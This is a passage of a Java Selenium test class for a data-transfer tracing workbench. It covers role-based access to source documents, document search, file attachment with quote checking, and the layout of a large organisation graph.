            assertThat(browser.findElement(By.id("document-next")).isEnabled()).isFalse();
            assertThat(HeadlessChromium.screenshot(browser, "workbench-document")).isNotEmptyFile();

            browser.findElement(By.id("document-previous")).click();
            wait(browser).until(b -> b.findElement(By.id("document-where")).getText().equals("characters 1–4,000 of %,d".formatted(report.length())));
            assertThat(browser.findElement(By.cssSelector("#document-text mark")).getText()).isEqualTo(QUOTE);
            browser.findElement(By.id("document-next")).click();
            wait(browser).until(b -> b.findElement(By.id("document-where")).getText()
                .equals("characters 4,001–%,d of %,d".formatted(report.length(), report.length())));
            assertThat(js(browser, "return document.getElementById('document-text').textContent")).isEqualTo(report.substring(4000));
            assertThat(browser.findElements(By.cssSelector("#document-text mark"))).isEmpty();
            browser.findElement(By.id("document-close")).click();
            assertThat(view.isDisplayed()).isFalse();
        });
    }

    /**
     * A journalist sees the quote in its sentence and its check, but the report (not public, as every seed source) is
     * not on the page: no way to open it, a line saying so, and the document view asked for it anyway shows no text.
     * Document search finds nothing for a journalist: it covers public sources only.
     */
    @Test
    void aJournalistSeesTheQuoteInItsSentenceButNotTheTextOfASourceThatIsNotPublic() {
        attachCaseSource(REPORT);
        withBrowser(browser -> {
            browser.get(base() + TRANSFER_EVIDENCE);
            waitForStatus(browser, SEED_STATUS);
            assertThat(browser.findElement(By.id("role")).getText()).isEqualTo("JOURNALIST");

            WebElement checked = quoteMarked(browser, QUOTE);
            assertThat(checked.findElement(By.cssSelector("p.in-context")).getText()).isEqualTo(QUOTE_CONTEXT);
            assertThat(checked.findElement(By.cssSelector(".check")).getText()).isEqualTo("✓ checked against the document");
            assertThat(checked.findElement(By.cssSelector(".not-public")).getText()).isEqualTo("The full text of this source is not public.");
            assertThat(browser.findElements(By.cssSelector("#evidence button.show-document"))).isEmpty();
            assertThat(browser.findElement(By.id("evidence")).getText()).doesNotContain("Attach its document");

            Object shown = ((JavascriptExecutor) browser).executeAsyncScript("""
                    const done = arguments[arguments.length - 1];
                    import('/workbench/documents.js').then(m => m.showDocument({ id: arguments[0], title: 'asked anyway', document: { characters: 4469 } },
                      { start: 1157, end: 1192 })).then(() => done(document.getElementById('document-text').textContent), e => done('failed: ' + e));
                    """, REPORT);
            assertThat(shown).isEqualTo("The full text of this source is not public: you may read its quotes and their context only.");
            browser.findElement(By.id("document-close")).click();
            // a sentence of the report that no quote or context holds
            assertThat(browser.findElement(By.tagName("body")).getText()).doesNotContain("CA Technologies");

            browser.findElement(By.id("search")).sendKeys("smacked fine");
            browser.findElement(By.id("search-documents")).click();
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText()
                .equals("In the documents: “smacked fine”\nNo attached document has every one of these words. (journalists search public sources only)"));
        });
    }

    /**
     * Document search from the search box, as an investigator: the report's passage with the words found marked, the
     * organisation it names (a link that opens it) and the passage in the document view.
     */
    @Test
    void documentSearchFromTheSearchBoxListsPassagesWithTheOrganisationsTheyName() {
        attachCaseSource(REPORT);
        withBrowser(browser -> {
            browser.get(base() + "/?org=facebook");
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            useInvestigatorToken(browser);

            browser.findElement(By.id("search")).sendKeys("smacked fine");
            // the suggestions are drawn again as answers come in: click the entry once it names the whole search
            wait(browser).ignoring(StaleElementReferenceException.class).ignoring(NoSuchElementException.class).until(b -> {
                WebElement entry = b.findElement(By.id("suggest-documents"));
                if (!entry.getText().equals("Search the documents for “smacked fine” →")) {
                    return false;
                }
                entry.click();
                return true;
            });
            WebElement passage = wait(browser).until(b -> b.findElement(By.cssSelector("#passages > li.passage")));
            assertThat(browser.findElements(By.cssSelector("#passages > li.passage"))).hasSize(1);
            assertThat(browser.findElement(By.id("evidence")).getText()).startsWith("In the documents: “smacked fine”\n1 passage");
            assertThat(passage.getAttribute("data-source")).isEqualTo(REPORT);
            assertThat(passage.findElement(By.cssSelector(".passage-source")).getText()).startsWith(REPORT_TITLE);
            assertThat(passage.findElement(By.tagName("p")).getText())
                .isEqualTo("The parenting service involved – Emma’s Diary – has now been smacked with a six-figure fine.");
            assertThat(passage.findElements(By.cssSelector("p mark"))).extracting(WebElement::getText).containsExactly("smacked", "fine");
            assertThat(passage.findElement(By.cssSelector(".mentions")).getText()).isEqualTo("Names: " + LCMB);

            passage.findElement(By.cssSelector("button.show-document")).click();
            wait(browser).until(b -> b.findElement(By.id("document-view")).isDisplayed() && !b.findElements(By.cssSelector("#document-text mark")).isEmpty());
            assertThat(browser.findElement(By.cssSelector("#document-text mark")).getText())
                .isEqualTo("The parenting service involved – Emma’s Diary – has now been smacked with a six-figure fine.");
            browser.findElement(By.id("document-close")).click();

            passage.findElement(By.cssSelector(".mentions button[data-org='lifecycle-marketing']")).click();
            waitForStatus(browser, SEED_STATUS);
            assertThat(browser.findElement(By.id("org-name")).getText()).isEqualTo(LCMB);

            // the button beside the search box runs the same search
            WebElement search = browser.findElement(By.id("search"));
            search.sendKeys(Keys.chord(Keys.CONTROL, "a"), "ballot boxes");
            browser.findElement(By.id("search-documents")).click();
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().startsWith("In the documents: “ballot boxes”\n1 passage"));
            assertThat(browser.findElement(By.cssSelector("#passages mark")).getText()).isEqualTo("ballot");
        });
    }

    /**
     * An investigator attaches a document to a source from the page: the answer says how long its text is, how many
     * quotes citing the source were checked and which it does not hold; the same file again changes nothing; a file
     * of another type is refused with the server's message. The quote not found then says so under it.
     */
    @Test
    void anInvestigatorAttachesADocumentFromThePageAndSeesWhichQuotesItHolds(@TempDir Path files) throws IOException {
        Testers.graphQl(port, Testers.INVESTIGATOR_TOKEN).document("""
                mutation {
                  source: recordSource(input: { id: "test-leaflet", title: "Test leaflet of a mailing house", publisher: "DataTrail tests" }) { id }
                  mailer: recordOrganisation(input: { id: "test-leaflet-mailer", name: "Test Mailing House Ltd", types: [OTHER],
                    evidence: [{ source: "test-leaflet", quote: "Leaflets went to every new mother" }] }) { id }
                  printer: recordOrganisation(input: { id: "test-leaflet-printer", name: "Test Printer Ltd", types: [OTHER],
                    evidence: [{ source: "test-leaflet", quote: "The printer kept every address" }] }) { id }
                }""").execute().path("printer.id").entity(String.class).isEqualTo("test-leaflet-printer");
        String text = "Leaflets went to every\u00a0new mother in the county.\n\nThe mailing house says so.";
        Path leaflet = Files.writeString(files.resolve("leaflet.txt"), text + "\n", StandardCharsets.UTF_8);
        Path picture = Files.write(files.resolve("leaflet.png"), new byte[] { (byte) 0x89, 'P', 'N', 'G' });

        withBrowser(browser -> {
            browser.get(base() + "/?org=facebook");
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            useInvestigatorToken(browser);
            WebElement form = browser.findElement(By.id("attach-document"));
            assertThat(form.isDisplayed()).isTrue();
            new Select(form.findElement(By.name("source"))).selectByValue("test-leaflet");
            form.findElement(By.name("file")).sendKeys(leaflet.toAbsolutePath().toString());
            form.findElement(By.cssSelector("button[type=submit]")).click();

            String answer = "%d characters of text; 2 quotes citing it checked, 1 not found in it:\ntest-leaflet-printer: “The printer kept every address”"
                .formatted(text.length());
            wait(browser).withMessage(() -> "attach result, was '" + browser.findElement(By.id("attach-result")).getText() + "'")
                .until(b -> b.findElement(By.id("attach-result")).getText().equals("Attached to test-leaflet. " + answer));
            assertThat(browser.findElements(By.cssSelector("#quotes-not-found li"))).hasSize(1);

            form.findElement(By.name("file")).sendKeys(leaflet.toAbsolutePath().toString());
            form.findElement(By.cssSelector("button[type=submit]")).click();
            wait(browser).until(b -> b.findElement(By.id("attach-result")).getText()
                .equals("This file is already attached to test-leaflet: nothing changed. " + answer));

            form.findElement(By.name("file")).sendKeys(picture.toAbsolutePath().toString());
            form.findElement(By.cssSelector("button[type=submit]")).click();
            wait(browser).until(b -> b.findElement(By.id("attach-result")).getText()
                .equals("Not attached: media type image/png is not accepted; expected one of text/plain, text/html, application/pdf"));
            assertThat(browser.findElement(By.id("attach-result")).getAttribute("class")).isEqualTo("error");

            browser.get(base() + "/?org=test-leaflet-mailer&sel=org%3Atest-leaflet-mailer");
            WebElement found = quoteMarked(browser, "Leaflets went to every\u00a0new mother");
            assertThat(found.findElement(By.cssSelector("p.in-context")).getText()).isEqualTo("Leaflets went to every new mother in the county.");
            assertThat(found.findElement(By.cssSelector(".check")).getText()).isEqualTo("✓ checked against the document");
            browser.get(base() + "/?org=test-leaflet-printer&sel=org%3Atest-leaflet-printer");
            WebElement missing = wait(browser).until(b -> b.findElement(By.cssSelector("#evidence blockquote.quote .check")));
            assertThat(missing.getText()).isEqualTo("✗ not found in the attached document");
        });
    }

    @Test
    void drawsAFanOutOf250OrganisationsWithNoNameOverlappingAnotherAndStaysUsable() {
        ingest.ingest(List.of(FactFile.of("fan-out", JsonMapper.builder().build().valueToTree(fanOut(250)))), Caller.system("test fan-out"));
        withBrowser(browser -> {
            browser.get(base() + "/?org=fanout-hub");
            // the list was recorded without any consent, so no use of it is covered: every arrow is red
            waitForStatus(browser, "251 organisations, 250 transfers in 250 chains · 250 where consent ran out");
            assertThat(js(browser, "return workbench.cy.scratch('layout')")).isEqualTo("rings");
            assertThat(js(browser, """
                    const boxes = workbench.cy.nodes().map(n => n.boundingBox({ includeLabels: true }));
                    let overlaps = 0;
                    for (let i = 0; i < boxes.length; i++) for (let j = i + 1; j < boxes.length; j++) {
                      const a = boxes[i], b = boxes[j];
                      if (a.x1 < b.x2 && b.x1 < a.x2 && a.y1 < b.y2 && b.y1 < a.y2) overlaps++;
                    }
                    return overlaps;""")).isEqualTo(0L);

            double before = ((Number) js(browser, "return workbench.cy.zoom()")).doubleValue();
            browser.findElement(By.id("zoom-in")).click();
            assertThat(((Number) js(browser, "return workbench.cy.zoom()")).doubleValue()).isGreaterThan(before);
            js(browser, "const n = workbench.cy.getElementById('fanout-buyer-123'); workbench.cy.zoom(1.2); workbench.cy.center(n)");
            clickOnGraph(browser, "workbench.cy.getElementById('fanout-buyer-123').renderedPosition()");
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().contains("Fan-out Buyer 123 Ltd"));
            assertThat(browser.findElements(By.cssSelector("#chain-list > li.chain"))).hasSize(200);
            HeadlessChromium.screenshot(browser, "workbench-250");
        });
    }

    /** One hub that passed one list to {@code n} buyers, all recorded with evidence from a test source. */
    static Map<String, Object> fanOut(int n) {
        List<Map<String, Object>> evidence = List.of(Map.of("source", "test-fan-out-register", "quote", "The hub sold its list to every buyer"));
        List<Object> organisations = new ArrayList<>();
        List<Object> transfers = new ArrayList<>();
        organisations.add(Map.of("id", "fanout-hub", "name", "Fan-out Hub Ltd", "types", List.of("DATA_BROKER"), "evidence", evidence));
        for (int i = 1; i <= n; i++) {
            String id = "fanout-buyer-%03d".formatted(i);
            organisations.add(Map.of("id", id, "name", "Fan-out Buyer %d Ltd".formatted(i), "types", List.of("OTHER"), "evidence", evidence));
            transfers.add(Map.of("id", "transfer-fanout-%03d".formatted(i), "from", "fanout-hub", "to", id, "dataset", "fanout-list",
                    "date", "2019-01-%02d".formatted(1 + i % 28), "recordCount", 1000 + i, "purposes", List.of("data-resale"), "evidence", evidence));
        }
        Map<String, Object> document = new LinkedHashMap<>();
        document.put("sources", List.of(Map.of("id", "test-fan-out-register", "title", "Test register of a fan-out", "publisher", "DataTrail tests")));
        document.put("organisations", organisations);
        document.put("datasets", List.of(Map.of("id", "fanout-list", "name", "Fan-out list", "heldBy", "fanout-hub",
                "dataCategories", List.of("household-address"), "subjectGroups", List.of("adults"), "evidence", evidence)));
        document.put("transfers", transfers);
        return document;
    }

    private String base() {
        return "http://localhost:" + port;
    }

    /**
     * Attaches a seed source's text from ../shared/case-sources (the same bytes again change nothing) and answers the
     * text as stored; skips, with a message, where the texts are not there.
     */
    private String attachCaseSource(String id) {
        Path file = Path.of(System.getProperty("datatrail.case-sources", "../shared/case-sources")).resolve(id + ".txt");
        Assumptions.assumeTrue(Files.isRegularFile(file), () -> "Skipped: the case-source text " + file.toAbsolutePath()
                + " is not there (the texts live in ../shared/case-sources beside the project; -Ddatatrail.case-sources=<folder> points elsewhere)");
        documents.attachFile(id, file, Caller.system("workbench test"));
        try {
            return Files.readString(file, StandardCharsets.UTF_8).strip().replace("\r\n", "\n");
        }
        catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Enters the investigator's token in the page and waits until the page has loaded again for them. */
    private static void useInvestigatorToken(WebDriver browser) {
        browser.findElement(By.id("token")).sendKeys(Testers.INVESTIGATOR_TOKEN);
        browser.findElement(By.id("use-token")).click();
        wait(browser).until(b -> b.findElement(By.id("message")).getText().equals("Token accepted: you may record findings."));
    }

    /** The quote of the evidence panel whose marked stretch (the quote in its sentence) is {@code quote}, once it is shown. */
    private static WebElement quoteMarked(WebDriver browser, String quote) {
        return wait(browser).withMessage(() -> "a quote marked '" + quote + "' in the evidence panel, was '" + browser.findElement(By.id("evidence")).getText() + "'")
            .until(b -> b.findElements(By.cssSelector("#evidence blockquote.quote")).stream()
                .filter(q -> q.findElements(By.tagName("mark")).stream().anyMatch(m -> m.getText().equals(quote.replace('\u00a0', ' '))))
                .findFirst().orElse(null));
    }

    private void withBrowser(Consumer<WebDriver> test) {
        WebDriver browser = HeadlessChromium.start(downloads);
        try {
            test.accept(browser);
        }
        finally {
            browser.quit();
        }
    }

    /**
     * Up to 3 minutes: this app plans each trace statement on its first request (its warm-up is off in tests), and a cold
     * 8-hop trace's statement took over a minute to plan on a loaded 2-core machine.
     */
    private static WebDriverWait wait(WebDriver browser) {
        return new WebDriverWait(browser, Duration.ofSeconds(180));
    }

    private static void waitForStatus(WebDriver browser, String status) {
        wait(browser).withMessage(() -> "graph status '" + status + "', was '" + browser.findElement(By.id("graph-status")).getText()
                + "' (message: '" + browser.findElement(By.id("message")).getText() + "')")
            .until(b -> b.findElement(By.id("graph-status")).getText().equals(status));
    }

    /** What Cytoscape draws for an edge: line style, colour and width (in pixels). */
    private static Map<?, ?> edgeStyle(WebDriver browser, String id) {
        return (Map<?, ?>) js(browser, "const e = workbench.cy.getElementById(arguments[0]); return { lineStyle: e.style('line-style'), "
                + "lineColor: e.style('line-color'), width: parseFloat(e.style('width')) };", id);
    }

    private static Object js(WebDriver browser, String script, Object... args) {
        return ((JavascriptExecutor) browser).executeScript(script, args);
    }

    @SuppressWarnings("unchecked")
    private static List<String> strings(WebDriver browser, String script) {
        return (List<String>) js(browser, script);
    }

    /** A real mouse click on the graph's canvas at a rendered position (a JS expression giving {x, y}). */
    @SuppressWarnings("unchecked")
    private static void clickOnGraph(WebDriver browser, String position) {
        WebElement graph = browser.findElement(By.id("graph"));
        Map<String, Number> at = (Map<String, Number>) js(browser, "const p = " + position
                + "; const g = document.getElementById('graph'); return { x: p.x - g.clientWidth / 2, y: p.y - g.clientHeight / 2 };");
        new Actions(browser).moveToElement(graph, at.get("x").intValue(), at.get("y").intValue()).click().perform();
    }

    /** Waits (explicitly, up to 30 s) until the browser has finished saving {@code name}, then reads and removes it. */
    private String downloaded(String name) {
        Path file = downloads.resolve(name);
        new FluentWait<>(file).withTimeout(Duration.ofSeconds(30)).pollingEvery(Duration.ofMillis(100))
            .withMessage(name + " downloaded into " + downloads)
            .until(f -> Files.isRegularFile(f) && !Files.exists(downloads.resolve(name + ".crdownload")));
        try {
            String text = Files.readString(file, StandardCharsets.UTF_8);
            Files.delete(file);
            return text;
        }
        catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
